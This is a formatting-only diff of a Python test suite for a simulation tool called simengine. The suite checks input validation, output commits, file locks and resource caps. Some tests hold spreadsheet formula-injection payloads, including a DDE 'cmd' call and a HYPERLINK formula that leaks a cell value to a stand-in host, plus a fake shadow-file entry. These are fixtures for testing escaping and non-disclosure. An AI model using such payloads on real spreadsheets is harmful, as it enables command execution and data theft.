@@ -40,15 +40,21 @@ def test_workbook_has_no_formula_cells_for_names_that_look_like_formulas(tmp_pat
     for ws in wb.worksheets:
         for row in ws.iter_rows():
             for c in row:
-                if c.data_type == "f" or (isinstance(c.value, str) and c.value.startswith("=")
-                                          and c.data_type != "s"):
+                if c.data_type == "f" or (isinstance(c.value, str) and c.value.startswith("=") and c.data_type != "s"):
                     formulas += 1
                 if isinstance(c.value, str) and c.value[:1] in ("=", "+", "-", "@", "\t", "\r"):
                     texts.append(c)
     assert formulas == 0
     shown = {c.value for c in texts}
-    for name in ("=cmd|' /C calc'!A0", "=1+1", "-2+3", '=HYPERLINK("http://example.invalid/?leak="&A1,"København")',
-                 "+Frederiksberg", "@Region Hovedstaden", "\tSelvbetjening 2"):
+    for name in (
+        "=cmd|' /C calc'!A0",
+        "=1+1",
+        "-2+3",
+        '=HYPERLINK("http://example.invalid/?leak="&A1,"København")',
+        "+Frederiksberg",
+        "@Region Hovedstaden",
+        "\tSelvbetjening 2",
+    ):
         assert name in shown, name  # kept as the scenario spells it ...
     assert all(c.quotePrefix for c in texts)  # ... with the quote prefix, so an edit does not evaluate it
 
@@ -103,8 +109,11 @@ def test_a_nul_character_in_a_csv_name_is_bad_input(tmp_path, capsys):
     csv = (ROOT / "simengine" / "data" / "municipalities_2011.csv").read_text(encoding="utf-8")
     (tmp_path / "m.csv").write_text(csv.replace("Frederiksberg", "Frederiks\x00berg"), encoding="utf-8")
     sc = tmp_path / "s.toml"
-    sc.write_text(SMALL.read_text(encoding="utf-8").replace('name = "Small test scenario"',
-                                                              'name = "x"\nmunicipalities = "m.csv"'))
+    sc.write_text(
+        SMALL.read_text(encoding="utf-8").replace(
+            'name = "Small test scenario"', 'name = "x"\nmunicipalities = "m.csv"'
+        )
+    )
     assert main(["validate", str(sc)]) == 2
     line = _one_error_line(capsys.readouterr().err)
     assert "line 3: name must not contain a NUL character" in line
@@ -140,9 +149,27 @@ def _created(out: Path) -> set[str]:
 
 def _start_slow_commit(tmp_path: Path, out: Path, seed: int) -> tuple[subprocess.Popen, Path]:
     marker = tmp_path / f"renamed-{seed}"
-    proc = subprocess.Popen([sys.executable, "-c", SLOW_COMMIT, str(marker), "run", str(SMALL), "--draws", "300",
-                             "--seed", str(seed), "--out", str(out), "--quiet"], cwd=ROOT,
-                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
+    proc = subprocess.Popen(
+        [
+            sys.executable,
+            "-c",
+            SLOW_COMMIT,
+            str(marker),
+            "run",
+            str(SMALL),
+            "--draws",
+            "300",
+            "--seed",
+            str(seed),
+            "--out",
+            str(out),
+            "--quiet",
+        ],
+        cwd=ROOT,
+        stdout=subprocess.PIPE,
+        stderr=subprocess.PIPE,
+        text=True,
+    )
     t0 = time.monotonic()
     while not marker.exists():
         assert proc.poll() is None, proc.communicate()
@@ -174,8 +201,7 @@ def test_a_signal_during_the_commit_never_leaves_a_mix(earlier_run, tmp_path, si
     assert not [p.name for p in out.iterdir() if p.name.startswith(".simengine-stage-") or "commit" in p.name]
 
 
-def test_a_run_killed_during_the_commit_is_completed_before_anyone_reads_the_folder(earlier_run, tmp_path,
-                                                                                    capsys):
+def test_a_run_killed_during_the_commit_is_completed_before_anyone_reads_the_folder(earlier_run, tmp_path, capsys):
     from simengine.outputs import folder as output
 
     out = earlier_run
@@ -196,11 +222,12 @@ def test_a_second_run_into_a_locked_folder_is_refused_with_one_line(tmp_path, ca
     out = tmp_path / "o"
     out.mkdir()
     (out / "keep.txt").write_text("mine")
-    code = ("import fcntl, os, sys, time\n"
-            f"fd = os.open({str(out / '.simengine.lock')!r}, os.O_CREAT | os.O_RDWR)\n"
-            "fcntl.flock(fd, fcntl.LOCK_EX)\nprint('locked', flush=True)\ntime.sleep(120)")
-    holder = subprocess.Popen([sys.executable, "-c", code],
-                              stdout=subprocess.PIPE, text=True)
+    code = (
+        "import fcntl, os, sys, time\n"
+        f"fd = os.open({str(out / '.simengine.lock')!r}, os.O_CREAT | os.O_RDWR)\n"
+        "fcntl.flock(fd, fcntl.LOCK_EX)\nprint('locked', flush=True)\ntime.sleep(120)"
+    )
+    holder = subprocess.Popen([sys.executable, "-c", code], stdout=subprocess.PIPE, text=True)
     try:
         assert holder.stdout.readline().strip() == "locked"
         assert main(["run", str(SMALL), "--draws", "100", "--out", str(out), "--quiet"]) == 1
@@ -218,8 +245,11 @@ def test_no_report_removes_only_report_files_simengine_wrote(tmp_path):
     out = tmp_path / "o"
     out.mkdir()
     (out / "charts").mkdir()
-    mine = {out / "summary.xlsx": b"my own workbook", out / "report.html": b"<p>my notes</p>",
-            out / "charts" / "fan_national.png": b"my chart"}
+    mine = {
+        out / "summary.xlsx": b"my own workbook",
+        out / "report.html": b"<p>my notes</p>",
+        out / "charts" / "fan_national.png": b"my chart",
+    }
     for p, data in mine.items():
         p.write_bytes(data)
     assert main(["run", str(SMALL), "--draws", "200", "--out", str(out), "--quiet", "--no-report"]) == 0
@@ -255,8 +285,16 @@ def test_temporaries_of_killed_runs_are_removed_by_the_next_run(tmp_path):
 # -- 3. bounded reads: regular files only, size checked before reading --------------------------------
 def _cli(*args: str, stdin=subprocess.DEVNULL, timeout: float = 120) -> subprocess.CompletedProcess:
     env = {k: v for k, v in os.environ.items() if k != "SIMENGINE_DEBUG"}
-    return subprocess.run([sys.executable, "-m", "simengine", *args], cwd=ROOT, stdin=stdin, capture_output=True,
-                          text=True, timeout=timeout, env=env, check=False)
+    return subprocess.run(
+        [sys.executable, "-m", "simengine", *args],
+        cwd=ROOT,
+        stdin=stdin,
+        capture_output=True,
+        text=True,
+        timeout=timeout,
+        env=env,
+        check=False,
+    )
 
 
 @pytest.fixture
@@ -283,8 +321,11 @@ def test_a_huge_sparse_csv_is_refused_before_it_is_read(tmp_path, capsys):
     with open(csv, "wb") as fh:
         fh.truncate(3 * 2**30)  # 3 GB of nothing on disk; reading it would take 3 GB of memory
     sc = tmp_path / "s.toml"
-    sc.write_text(SMALL.read_text(encoding="utf-8").replace('name = "Small test scenario"',
-                                                              'name = "x"\nmunicipalities = "huge.csv"'))
+    sc.write_text(
+        SMALL.read_text(encoding="utf-8").replace(
+            'name = "Small test scenario"', 'name = "x"\nmunicipalities = "huge.csv"'
+        )
+    )
     import resource
 
     before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
@@ -315,8 +356,11 @@ def test_a_file_that_is_not_a_csv_is_not_echoed(tmp_path, capsys):
     secret = tmp_path / "shadow"
     secret.write_text("root:$6$SECRETHASH$abcdef:19000:0:99999:7:::\ndaemon:*:19000:0:99999:7:::\n")
     sc = tmp_path / "s.toml"
-    sc.write_text(SMALL.read_text(encoding="utf-8").replace('name = "Small test scenario"',
-                                                              f'name = "x"\nmunicipalities = "{secret}"'))
+    sc.write_text(
+        SMALL.read_text(encoding="utf-8").replace(
+            'name = "Small test scenario"', f'name = "x"\nmunicipalities = "{secret}"'
+        )
+    )
     assert main(["validate", str(sc)]) == 2
     line = _one_error_line(capsys.readouterr().err)
     assert "not a municipalities CSV" in line and "SECRETHASH" not in line and "root:" not in line
@@ -326,8 +370,12 @@ def test_a_file_that_is_not_a_csv_is_not_echoed(tmp_path, capsys):
 @pytest.fixture(scope="module")
 def cut_run(tmp_path_factory):
     out = tmp_path_factory.mktemp("cut") / "o"
-    assert main(["run", str(SMALL), "--draws", "300", "--out", str(out), "--quiet", "--no-report",
-                 "--cut-threshold", "5e7"]) == 0
+    assert (
+        main(
+            ["run", str(SMALL), "--draws", "300", "--out", str(out), "--quiet", "--no-report", "--cut-threshold", "5e7"]
+        )
+        == 0
+    )
     return out
 
 
@@ -337,19 +385,22 @@ def test_check_reproduces_a_run_with_cut_threshold(cut_run, capsys):
     assert "identical" in capsys.readouterr().out
 
 
-@pytest.mark.parametrize("key,value,fragment", [
-    ("draws", "many", "draws: must be a whole number in [1, 1,000,000,000], got 'many'"),
-    ("draws", -5, "draws: must be a whole number"),
-    ("draws", 10**12, "draws: must be a whole number"),
-    ("draws", True, "draws: must be a whole number"),
-    ("seed", 1.5, "seed: must be a whole number in [0, 2^63)"),
-    ("scenario_file", 42, "scenario_file: must be the path of the scenario file, got 42"),
-    ("scenario_path_absolute", ["a"], "scenario_path_absolute: must be the path"),
-    ("versions", ["1.0"], "versions: must be a table of versions"),
-    ("cut_threshold", "lots", "cut_threshold: must be a finite amount"),
-    ("scenario_sha256", 7, "scenario_sha256: must be a sha256"),
-    ("keep_draws", 0, "keep_draws: must be a whole number"),
-])
+@pytest.mark.parametrize(
+    "key,value,fragment",
+    [
+        ("draws", "many", "draws: must be a whole number in [1, 1,000,000,000], got 'many'"),
+        ("draws", -5, "draws: must be a whole number"),
+        ("draws", 10**12, "draws: must be a whole number"),
+        ("draws", True, "draws: must be a whole number"),
+        ("seed", 1.5, "seed: must be a whole number in [0, 2^63)"),
+        ("scenario_file", 42, "scenario_file: must be the path of the scenario file, got 42"),
+        ("scenario_path_absolute", ["a"], "scenario_path_absolute: must be the path"),
+        ("versions", ["1.0"], "versions: must be a table of versions"),
+        ("cut_threshold", "lots", "cut_threshold: must be a finite amount"),
+        ("scenario_sha256", 7, "scenario_sha256: must be a sha256"),
+        ("keep_draws", 0, "keep_draws: must be a whole number"),
+    ],
+)
 def test_a_malformed_manifest_gives_one_line(cut_run, tmp_path, capsys, key, value, fragment):
     m = json.loads((cut_run / "run.json").read_text())
     m[key] = value
@@ -369,12 +420,15 @@ def test_a_manifest_that_is_not_an_object(tmp_path, capsys):
 
 
 # -- 5. caps checked up front, suggestions in bounded time -------------------------------------------
-@pytest.mark.parametrize("argv", [
-    ["run", str(SMALL), "--draws", "1000000000000"],
-    ["run", str(SMALL), "--precision", "0.01", "--max-draws", "1000000000000"],
-    ["compare", str(SMALL), str(SMALL), "--draws", "1000000000000"],
-    ["sweep", str(SMALL), "--set", "regimes.retention_share=0.25,0.5", "--draws", "1000000000000"],
-])
+@pytest.mark.parametrize(
+    "argv",
+    [
+        ["run", str(SMALL), "--draws", "1000000000000"],
+        ["run", str(SMALL), "--precision", "0.01", "--max-draws", "1000000000000"],
+        ["compare", str(SMALL), str(SMALL), "--draws", "1000000000000"],
+        ["sweep", str(SMALL), "--set", "regimes.retention_share=0.25,0.5", "--draws", "1000000000000"],
+    ],
+)
 def test_draws_beyond_the_cap_are_refused_from_the_command_line(argv, tmp_path, capsys):
     assert main(argv + ["--out", str(tmp_path / "o"), "--quiet"]) == 2
     assert "at most 1,000,000,000" in capsys.readouterr().err
@@ -391,8 +445,9 @@ def test_draws_beyond_the_cap_are_refused_by_the_api():
 
 
 def _initiatives_toml(n: int, area: str = "a") -> str:
-    return "".join(f'[[initiatives]]\nid = "i{k}"\nname = "I {k}"\narea = "{area}"\ngain = 1e6\nstart = 2012\n\n'
-                   for k in range(n))
+    return "".join(
+        f'[[initiatives]]\nid = "i{k}"\nname = "I {k}"\narea = "{area}"\ngain = 1e6\nstart = 2012\n\n' for k in range(n)
+    )
 
 
 HEAD = """[scenario]
@@ -426,8 +481,9 @@ def test_too_many_areas_are_refused(tmp_path, capsys):
 
 
 def test_too_many_municipalities_are_refused(tmp_path, capsys):
-    (tmp_path / "m.csv").write_text("code,name,region,population\n" + "".join(f"{k},M{k},R,100\n"
-                                                                              for k in range(1, 10_002)))
+    (tmp_path / "m.csv").write_text(
+        "code,name,region,population\n" + "".join(f"{k},M{k},R,100\n" for k in range(1, 10_002))
+    )
     sc = tmp_path / "s.toml"
     sc.write_text(HEAD.replace('name = "many"', 'name = "many"\nmunicipalities = "m.csv"') + _initiatives_toml(1))
     assert main(["validate", str(sc)]) == 2
@@ -436,8 +492,12 @@ def test_too_many_municipalities_are_refused(tmp_path, capsys):
 
 def test_too_many_correlated_inputs_are_refused(tmp_path, capsys):
     sc = tmp_path / "corr.toml"
-    sc.write_text(HEAD + '[defaults]\ndelay = { dist = "uniform", min = 0, max = 1 }\n\n' + _initiatives_toml(501)
-                  + '[[correlations]]\na = "*.delay"\nb = "*.delay"\nrho = 0.5\n')
+    sc.write_text(
+        HEAD
+        + '[defaults]\ndelay = { dist = "uniform", min = 0, max = 1 }\n\n'
+        + _initiatives_toml(501)
+        + '[[correlations]]\na = "*.delay"\nb = "*.delay"\nrho = 0.5\n'
+    )
     assert main(["validate", str(sc)]) == 2
     assert "at most 500 inputs may be correlated" in _one_error_line(capsys.readouterr().err)
 
@@ -445,8 +505,9 @@ def test_too_many_correlated_inputs_are_refused(tmp_path, capsys):
 def test_thousands_of_unknown_removals_answer_in_bounded_time(tmp_path, capsys):
     (tmp_path / "base.toml").write_text(HEAD + _initiatives_toml(3_000))
     child = tmp_path / "child.toml"
-    child.write_text('extends = "base.toml"\nremove_initiatives = [' + ", ".join(f'"x{k}-gone"' for k in range(40_000))
-                     + "]\n")
+    child.write_text(
+        'extends = "base.toml"\nremove_initiatives = [' + ", ".join(f'"x{k}-gone"' for k in range(40_000)) + "]\n"
+    )
     assert main(["validate", str(child)]) == 2
     err = capsys.readouterr().err
     assert err.count("remove_initiatives: no initiative") == 40_000
@@ -470,12 +531,19 @@ def test_a_non_numeric_further_csv_column_is_bad_input(tmp_path, capsys):
 
 
 # -- 8./9. results must be finite; what cannot be, is refused by validate --------------------------
-@pytest.mark.parametrize("old,new,named", [
-    ("target = 300e6", "target = 1e308", "scenario.target: must be in [0, 1e+15], got 1e+308"),
-    ("gain = 120e6", "gain = 1e308", "initiatives[0] (osb-1).gain: must be in [0, 1e+15], got 1e+308"),
-    ("investment = 20e6", "investment = 1e308", "cost.investment: must be in [0, 1e+15], got 1e+308"),
-    ("cost_per_fte = 450_000", "cost_per_fte = 5e-324", "scenario.cost_per_fte: must be in [1, 1e+15], got 4.94066e-324"),
-])
+@pytest.mark.parametrize(
+    "old,new,named",
+    [
+        ("target = 300e6", "target = 1e308", "scenario.target: must be in [0, 1e+15], got 1e+308"),
+        ("gain = 120e6", "gain = 1e308", "initiatives[0] (osb-1).gain: must be in [0, 1e+15], got 1e+308"),
+        ("investment = 20e6", "investment = 1e308", "cost.investment: must be in [0, 1e+15], got 1e+308"),
+        (
+            "cost_per_fte = 450_000",
+            "cost_per_fte = 5e-324",
+            "scenario.cost_per_fte: must be in [1, 1e+15], got 4.94066e-324",
+        ),
+    ],
+)
 def test_amounts_that_would_overflow_are_refused_by_validate(tmp_path, capsys, old, new, named):
     sc = tmp_path / "s.toml"
     text = SMALL.read_text(encoding="utf-8")
@@ -485,12 +553,21 @@ def test_amounts_that_would_overflow_are_refused_by_validate(tmp_path, capsys, o
     assert named in _one_error_line(capsys.readouterr().err)
 
 
-@pytest.mark.parametrize("old,new,named", [
-    ('estimate_factor = { dist = "lognormal", median = 0.85, p90 = 1.15 }',
-     'estimate_factor = { dist = "lognormal", mu = 700, sigma = 1 }', "initiatives[0] (osb-1).estimate_factor"),
-    ('adoption = { dist = "triangular", min = 0.7, mode = 0.85, max = 1.0 }',
-     'adoption = { dist = "uniform", min = 0, max = 1e308 }', "initiatives[1] (osb-2).adoption"),
-])
+@pytest.mark.parametrize(
+    "old,new,named",
+    [
+        (
+            'estimate_factor = { dist = "lognormal", median = 0.85, p90 = 1.15 }',
+            'estimate_factor = { dist = "lognormal", mu = 700, sigma = 1 }',
+            "initiatives[0] (osb-1).estimate_factor",
+        ),
+        (
+            'adoption = { dist = "triangular", min = 0.7, mode = 0.85, max = 1.0 }',
+            'adoption = { dist = "uniform", min = 0, max = 1e308 }',
+            "initiatives[1] (osb-2).adoption",
+        ),
+    ],
+)
 def test_priors_that_overflow_are_named_and_nothing_is_written(tmp_path, old, new, named):
     sc = tmp_path / "s.toml"
     text = SMALL.read_text(encoding="utf-8")
@@ -511,8 +588,9 @@ def test_the_finiteness_check_names_the_inputs_to_blame():
     from simengine.scenario import schema as scenario
 
     sc = scenario.load(SMALL)
-    big = dataclasses.replace(sc, initiatives=(dataclasses.replace(sc.initiatives[0], gain=1e300),)
-                              + sc.initiatives[1:])
+    big = dataclasses.replace(
+        sc, initiatives=(dataclasses.replace(sc.initiatives[0], gain=1e300),) + sc.initiatives[1:]
+    )
     ds = xr.Dataset({"benefit": (("draw", "year"), [[1.0, float("inf")]]), "target": ("year", [1.0, 2.0])})
     with pytest.raises(ConfigError, match=r"inf or NaN in benefit\).*initiatives\[0\] \(osb-1\)\.gain = 1e\+300"):
         finite.check(ds, big)
@@ -535,18 +613,25 @@ def test_report_of_an_all_nan_results_file_is_bad_input(tmp_path, capsys):
 
 
 # -- 10./14. cluster options ---------------------------------------------------------------------------
-@pytest.mark.parametrize("args,fragment", [
-    (["--scheduler", "bogus"], "the address needs a port"),
-    (["--scheduler", "tcp://host:99999"], "the address needs a port"),
-    (["--scheduler", "tcp://127.0.0.1:9", "--connect-timeout", "1e308"], "at most 3600 seconds"),
-])
+@pytest.mark.parametrize(
+    "args,fragment",
+    [
+        (["--scheduler", "bogus"], "the address needs a port"),
+        (["--scheduler", "tcp://host:99999"], "the address needs a port"),
+        (["--scheduler", "tcp://127.0.0.1:9", "--connect-timeout", "1e308"], "at most 3600 seconds"),
+    ],
+)
 def test_bad_scheduler_options_give_one_line_and_no_traceback(tmp_path, args, fragment):
     pytest.importorskip("distributed")
     r = _cli("run", str(SMALL), "--draws", "100", "--out", str(tmp_path / "o"), "--quiet", "--no-report", *args)
     assert r.returncode == 2, r.stderr
     assert "Traceback" not in r.stderr and fragment in r.stderr
-    assert len([ln for ln in r.stderr.splitlines() if ln.strip() and not ln.startswith("usage")
-                and not ln.startswith(" ")]) == 1, r.stderr
+    assert (
+        len(
+            [ln for ln in r.stderr.splitlines() if ln.strip() and not ln.startswith("usage") and not ln.startswith(" ")]
+        )
+        == 1
+    ), r.stderr
 
 
 # -- 14. smaller ---------------------------------------------------------------------------------------
@@ -557,11 +642,11 @@ def _small_with(tmp_path: Path, extra: str) -> Path:
 
 
 def test_a_correlation_of_an_input_with_itself_is_refused(tmp_path, capsys):
-    sc = _small_with(tmp_path, '[[correlations]]\na = "osb-1.estimate_factor"\nb = "osb-1.estimate_factor"\n'
-                               'rho = 0.5\n')
+    sc = _small_with(
+        tmp_path, '[[correlations]]\na = "osb-1.estimate_factor"\nb = "osb-1.estimate_factor"\nrho = 0.5\n'
+    )
     assert main(["validate", str(sc)]) == 2
-    assert "correlations[0]: correlates osb-1.estimate_factor with itself" in _one_error_line(
-        capsys.readouterr().err)
+    assert "correlations[0]: correlates osb-1.estimate_factor with itself" in _one_error_line(capsys.readouterr().err)
 
 
 def test_a_value_just_outside_its_range_is_shown_exactly(tmp_path, capsys):
@@ -582,16 +667,14 @@ def test_memory_advice_names_threads_when_fewer_kept_draws_cannot_help(tmp_path,
     one_thread = engine.estimate_memory(plan, 1000, 1, 2000)
     assert engine.estimate_memory(plan, 1000, 64, 1) > 2 * one_thread  # the threads' histograms dominate
     monkeypatch.setattr(engine, "physical_memory", lambda: int(2 * one_thread / 0.8))
-    assert main(["run", str(SMALL), "--draws", "1000", "--threads", "64", "--out", str(tmp_path / "o"),
-                 "--quiet"]) == 2
+    assert main(["run", str(SMALL), "--draws", "1000", "--threads", "64", "--out", str(tmp_path / "o"), "--quiet"]) == 2
     line = _one_error_line(capsys.readouterr().err)
     assert "--threads" in line and "keep_draws" not in line
     n = int(line.split("use --threads ")[1].split()[0])
     assert engine.estimate_memory(plan, 1000, n, 2000) <= 0.8 * int(2 * one_thread / 0.8)
 
     monkeypatch.setattr(engine, "physical_memory", lambda: int(one_thread / 2))  # nothing helps
-    assert main(["run", str(SMALL), "--draws", "1000", "--threads", "64", "--out", str(tmp_path / "o"),
-                 "--quiet"]) == 2
+    assert main(["run", str(SMALL), "--draws", "1000", "--threads", "64", "--out", str(tmp_path / "o"), "--quiet"]) == 2
     line = _one_error_line(capsys.readouterr().err)
     assert "even with keep_draws = 1, one thread and --no-report" in line
 
@@ -620,22 +703,47 @@ def test_real_scheduler_with_a_worker_and_then_the_scheduler_killed_mid_run(tmp_
     port = _free_port()
     addr = f"tcp://127.0.0.1:{port}"
     logs = open(tmp_path / "cluster.log", "w")  # noqa: SIM115 - the cluster's processes write to it until the end
-    procs = [subprocess.Popen([str(dask), "scheduler", "--host", "127.0.0.1", "--port", str(port),
-                               "--dashboard-address", "127.0.0.1:0"], stdout=logs, stderr=logs)]
+    procs = [
+        subprocess.Popen(
+            [str(dask), "scheduler", "--host", "127.0.0.1", "--port", str(port), "--dashboard-address", "127.0.0.1:0"],
+            stdout=logs,
+            stderr=logs,
+        )
+    ]
     try:
         client = Client(addr, timeout="60s", set_as_default=False)
         for _ in range(2):
-            p = subprocess.Popen([str(dask), "worker", addr, "--nthreads", "1", "--no-nanny", "--host", "127.0.0.1",
-                                  "--no-dashboard"], stdout=logs, stderr=logs)
+            p = subprocess.Popen(
+                [str(dask), "worker", addr, "--nthreads", "1", "--no-nanny", "--host", "127.0.0.1", "--no-dashboard"],
+                stdout=logs,
+                stderr=logs,
+            )
             procs.append(p)
         client.wait_for_workers(2, timeout=120)
         pids = client.run(os.getpid)  # worker address -> pid
-        argv = ["run", str(SMALL), "--draws", "300000", "--seed", "5", "--quiet", "--no-report", "--scheduler", addr,
-                "--block-draws", "15000"]
+        argv = [
+            "run",
+            str(SMALL),
+            "--draws",
+            "300000",
+            "--seed",
+            "5",
+            "--quiet",
+            "--no-report",
+            "--scheduler",
+            addr,
+            "--block-draws",
+            "15000",
+        ]
 
         # a worker killed mid-run: its blocks run again elsewhere, the results are the same bit for bit
-        run = subprocess.Popen([sys.executable, "-m", "simengine", *argv, "--out", str(tmp_path / "dask")], cwd=ROOT,
-                               stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
+        run = subprocess.Popen(
+            [sys.executable, "-m", "simengine", *argv, "--out", str(tmp_path / "dask")],
+            cwd=ROOT,
+            stdout=subprocess.PIPE,
+            stderr=subprocess.PIPE,
+            text=True,
+        )
         t0 = time.monotonic()
         while not _busy(client):
             assert run.poll() is None, run.communicate()
@@ -651,8 +759,13 @@ def test_real_scheduler_with_a_worker_and_then_the_scheduler_killed_mid_run(tmp_
         assert dig[0] == dig[1]
 
         # the scheduler killed mid-run: exit 1 with one line, nothing written
-        run = subprocess.Popen([sys.executable, "-m", "simengine", *argv, "--out", str(tmp_path / "lost")], cwd=ROOT,
-                               stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
+        run = subprocess.Popen(
+            [sys.executable, "-m", "simengine", *argv, "--out", str(tmp_path / "lost")],
+            cwd=ROOT,
+            stdout=subprocess.PIPE,
+            stderr=subprocess.PIPE,
+            text=True,
+        )
         t0 = time.monotonic()
         while not _busy(client):
             assert run.poll() is None, run.communicate()
